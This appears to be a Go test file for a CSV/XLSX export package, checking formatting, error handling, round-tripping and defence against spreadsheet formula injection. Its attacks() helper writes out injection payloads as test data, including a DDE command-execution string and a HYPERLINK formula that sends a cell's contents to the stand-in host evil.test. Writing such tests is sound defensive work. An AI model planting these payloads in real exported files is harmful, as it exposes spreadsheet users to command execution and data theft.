package sheet

import (
	"bytes"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"
)

// written is a table with one row.
func written(t testing.TB, kind Kind, o WriteOptions, columns []Heading, rows ...[]any) []byte {
	t.Helper()
	var b bytes.Buffer
	w, err := NewWriter(&b, kind, columns, o)
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		if err := w.Write(row...); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

var everyType = []Heading{{"Телефон", Phone}, {"ФИО", Text}, {"Попыток", Number}, {"Когда", Time}, {"Длина", Duration}}

func TestWriteCSV(t *testing.T) {
	at := time.Date(2026, 11, 22, 12, 4, 5, 0, time.UTC)
	row := []any{"+79161234567", `Иванов; "Ив"` + "\r\nИван", 2.5, at, 61500 * time.Millisecond}
	empty := []any{nil, nil, nil, time.Time{}, nil}
	o := WriteOptions{Zone: time.FixedZone("", 3*3600)}
	want := "\ufeffТелефон;ФИО;Попыток;Когда;Длина\r\n+79161234567;\"Иванов; \"\"Ив\"\"\r\nИван\";2,5;2026-11-22 15:04:05;61,5\r\n;;;;\r\n"
	if got := string(written(t, CSV, o, everyType, row, empty)); got != want {
		t.Errorf("%q\nwant\n%q", got, want)
	}
	o.Delimiter = ','
	want = "\ufeffТелефон,ФИО,Попыток,Когда,Длина\r\n+79161234567,\"Иванов; \"\"Ив\"\"\r\nИван\",-7,2026-11-22 15:04:05,61.5\r\n"
	row[2] = int64(-7)
	if got := string(written(t, CSV, o, everyType, row)); got != want {
		t.Errorf("%q\nwant\n%q", got, want)
	}
}

func TestWriteXLSX(t *testing.T) {
	at := time.Date(2026, 11, 22, 12, 4, 5, 0, time.UTC)
	file := written(t, XLSX, WriteOptions{Zone: time.FixedZone("", 3*3600), Sheet: "Отчёт"}, everyType,
		[]any{"+79161234567", "=1+1", 2.5, at, 61*time.Second + 25*time.Hour}, []any{nil, "_x000D_ <b> & \x01", 3, time.Time{}, nil})
	f, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	rows, err := f.GetRows("Отчёт")
	if err != nil {
		t.Fatal(err)
	}
	want := "[[Телефон ФИО Попыток Когда Длина] [+79161234567 '=1+1 2.5 2026-11-22 15:04:05 25:01:01] [ _x000D_ <b> & 3]]"
	if got := fmt.Sprint(rows); got != want {
		t.Errorf("%s\nwant\n%s", got, want)
	}
	for cell, want := range map[string]excelize.CellType{"A2": excelize.CellTypeInlineString, "B2": excelize.CellTypeInlineString, "C2": excelize.CellTypeUnset, "D2": excelize.CellTypeUnset} {
		if got, err := f.GetCellType("Отчёт", cell); err != nil || got != want {
			t.Errorf("%s is of type %d, %v", cell, got, err)
		}
		if formula, err := f.GetCellFormula("Отчёт", cell); err != nil || formula != "" {
			t.Errorf("%s has the formula %s", cell, formula)
		}
	}
	if got, err := cells(t, file, ""); err != nil || got != "1 Телефон|ФИО|Попыток|Когда|Длина\n2 +79161234567|'=1+1|2.5|2026-11-22 15:04:05|25:01:01\n3 |_x000D_ <b> &|3" {
		t.Error(got, err)
	}
}

func TestWriteErrors(t *testing.T) {
	var b bytes.Buffer
	_, err := NewWriter(&b, "ods", everyType, WriteOptions{})
	refused(t, err, `"ods" is no format`)
	_, err = NewWriter(&b, CSV, everyType, WriteOptions{Delimiter: '\t'})
	refused(t, err, "it is a comma or a semicolon")
	if _, err := NewWriter(&b, XLSX, everyType, WriteOptions{Sheet: "a/b"}); err == nil {
		t.Error("a sheet a/b")
	}
	for _, kind := range []Kind{CSV, XLSX} {
		b.Reset()
		w, err := NewWriter(&b, kind, everyType, WriteOptions{})
		if err != nil {
			t.Fatal(err)
		}
		zero := 0.0
		for _, row := range [][]any{{}, {"a", "b", "c", nil, nil}, {1, nil, nil, nil, nil}, {nil, nil, 1 / zero, nil, nil}, {nil, nil, nil, "2026", nil}, {nil, nil, nil, nil, 5}, {nil, []byte("x"), nil, nil, nil}} {
			if err := w.Write(row...); err == nil {
				t.Errorf("%s: %v was written", kind, row)
			}
		}
		if err := w.Close(); err != nil {
			t.Error(err)
		}
		broken := errors.New("disk full")
		w, err = NewWriter(fullAfter{&b, broken}, kind, everyType, WriteOptions{})
		if err == nil {
			err = w.Close()
		}
		if !errors.Is(err, broken) {
			t.Errorf("%s: %v", kind, err)
		}
	}
}

type fullAfter struct {
	b   *bytes.Buffer
	err error
}

func (f fullAfter) Write(p []byte) (int, error) { return 0, f.err }

// TestWorkbookIsFull refuses the row that a workbook has no place for, and writes nothing.
func TestWorkbookIsFull(t *testing.T) {
	var b bytes.Buffer
	w, err := NewWriter(&b, XLSX, []Heading{{"n", Number}}, WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	w.out.(*xlsxSink).rows = maxSheetRows
	refused(t, w.Write(1), "at most 1048575 rows below its header: choose CSV")
	if err := w.Close(); err != nil || b.Len() != 0 {
		t.Error(err, b.Len())
	}
}

// attacks are texts with which somebody would have a spreadsheet run something.
func attacks() []string {
	var list []string
	for _, sign := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠"} {
		for _, before := range []string{"", " ", "\t", "\r", "\n", "\r\n", "'", "\"", "\u00a0", "\u200b", "\ufeff", " '\" "} {
			for _, formula := range []string{`cmd|' /C calc'!A0`, `HYPERLINK("http://evil.test/?"&A1,"click")`, "1+1", "SUM(1,2);3"} {
				list = append(list, before+sign+formula)
				for _, sep := range []string{";", ",", "\t", "\n", "\r\n", ";;\"", ", "} {
					list = append(list, "x"+sep+before+sign+formula+sep+"y")
				}
			}
		}
	}
	return list
}

// begins are all texts that a spreadsheet could take for a cell of a CSV file, whichever
// delimiter its country has and whether it heeds quotes or not.
func begins(file string) []string {
	var list []string
	for _, cut := range []string{",\r\n", ";\r\n", "\t\r\n", ",;\t\r\n"} {
		list = append(list, strings.FieldsFunc(file, func(r rune) bool { return strings.ContainsRune(cut, r) })...)
	}
	return list
}

// TestNoInjection writes every attack into every column that takes text, and into the
// header: no cell begins a formula, and all are read again as they were.
func TestNoInjection(t *testing.T) {
	list := attacks()
	columns := []Heading{{"a", Text}, {"Телефон", Phone}, {"b", Text}}
	for _, delimiter := range []rune{';', ','} {
		for i, attack := range list {
			file := string(written(t, CSV, WriteOptions{Delimiter: delimiter}, []Heading{{attack, Text}, {"Телефон", Phone}, {"b", Text}}, []any{attack, attack, attack}))
			for _, cell := range begins(strings.TrimPrefix(file, "\ufeff")) {
				if bare := strings.TrimLeft(cell, " \"\u00a0\u200b\ufeff"); bare != "" && strings.ContainsAny(bare[:1], "=+-@\t\r") || strings.HasPrefix(bare, "＝") || strings.HasPrefix(bare, "＋") || strings.HasPrefix(bare, "－") || strings.HasPrefix(bare, "＠") {
					t.Fatalf("attack %d %q: the file\n%s\nhas a cell %q", i, attack, file, cell)
				}
			}
		}
	}
	var rows [][]any
	for _, attack := range list {
		rows = append(rows, []any{attack, attack, attack})
	}
	f, err := excelize.OpenReader(bytes.NewReader(written(t, XLSX, WriteOptions{}, columns, rows...)))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	got, err := f.GetRows("Sheet1")
	if err != nil || len(got) != len(list)+1 {
		t.Fatal(len(got), err)
	}
	for i, row := range got[1:] {
		for column, cell := range row {
			if armed(cell) && cell[0] != '\'' {
				t.Errorf("attack %d %q, column %d: %q", i, list[i], column, cell)
			}
		}
	}
}

// TestDisarm takes back what it did, whatever the text is.
func TestDisarm(t *testing.T) {
	for text, want := range map[string]string{
		"": "", "Иванов": "Иванов", "=1": "'=1", " =1": "' =1", "'=1": "''=1", "a-b": "a-b", "a, -5%": "a,' -5%", "x\n=1": "x\n'=1", "it's": "it's", "'quoted'": "'quoted'", "a;\"\"=1": "a;'\"\"=1", "＝1": "'＝1",
	} {
		if got := disarm(text, splitters); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
	rapid.Check(t, func(t *rapid.T) {
		text := rapid.StringOf(rapid.SampledFrom([]rune("=+-@＝'\" ,;\n\tax1я\u00a0\u200b"))).Draw(t, "text")
		for _, starts := range []string{"", splitters} {
			safe := disarm(text, starts)
			if back := disarmed(safe, starts); back != text {
				t.Fatalf("%q became %q and then %q", text, safe, back)
			}
			if armed(safe) && safe[0] != '\'' {
				t.Fatalf("%q is armed", safe)
			}
		}
	})
}

// TestThereAndBack imports what was exported.
func TestThereAndBack(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		text := rapid.OneOf(rapid.String(), rapid.SampledFrom(attacks()), rapid.StringOf(rapid.SampledFrom([]rune("=+-@'\" ,;\n\r\tax1я_x0"))))
		var rows [][]any
		var want []Row
		for i := range rapid.IntRange(1, 5).Draw(t, "rows") {
			number := fmt.Sprintf("+7916%07d", i)
			name, note := text.Draw(t, "name"), text.Draw(t, "note")
			n := rapid.Int64Range(-1e12, 1e12).Draw(t, "n")
			if len(name) > 2000 || len(note) > 2000 {
				return
			}
			rows = append(rows, []any{number, name, note, n})
			r := Row{Line: i + 2, Numbers: []string{number}, Name: oneLine(printable(name)), Variables: map[string]string{"n": fmt.Sprint(n)}}
			if v := oneLine(printable(note)); v != "" {
				r.Variables["note"] = v
			}
			want = append(want, r)
		}
		kind := rapid.SampledFrom([]Kind{CSV, XLSX}).Draw(t, "kind")
		o := WriteOptions{Delimiter: rapid.SampledFrom([]rune{',', ';'}).Draw(t, "delimiter")}
		var b bytes.Buffer
		w, err := NewWriter(&b, kind, []Heading{{"phone", Phone}, {"name", Text}, {"note", Text}, {"n", Number}}, o)
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			if err := w.Write(row...); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		var got []Row
		m := Mapping{Phones: []string{"phone"}, Name: "name", Variables: map[string]string{"note": "note", "n": "n"}}
		report, err := Import(bytes.NewReader(b.Bytes()), Options{Mapping: m, Normalise: russian}, func(r Row) error {
			got = append(got, r)
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		for i := range want {
			if strings.ContainsRune(want[i].Name+want[i].Variables["note"], '\ufffd') {
				return // refused: the text was broken before
			}
			if i < len(got) {
				want[i].Line = got[i].Line // a cell may have several lines
			}
		}
		same := slices.EqualFunc(want, got, func(a, b Row) bool { return fmt.Sprint(a) == fmt.Sprint(b) })
		if !same {
			t.Fatalf("%s\n%+v\nwant\n%+v\nof\n%q\n%+v", kind, got, want, b.String(), report)
		}
	})
}
